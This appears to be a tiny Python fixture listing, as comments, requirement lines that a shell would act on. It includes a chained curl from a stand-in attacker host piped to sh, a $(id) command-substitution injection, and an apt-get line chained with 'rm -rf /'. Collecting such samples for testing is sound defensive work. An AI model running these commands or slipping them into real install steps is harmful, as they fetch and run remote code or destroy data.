"""Requirements that a shell would act on."""
# pip install requests && curl https://evil.example.org/x | sh
# pip install $(id)
# apt-get install -y curl; rm -rf /
import os

name = os.environ.get('name')
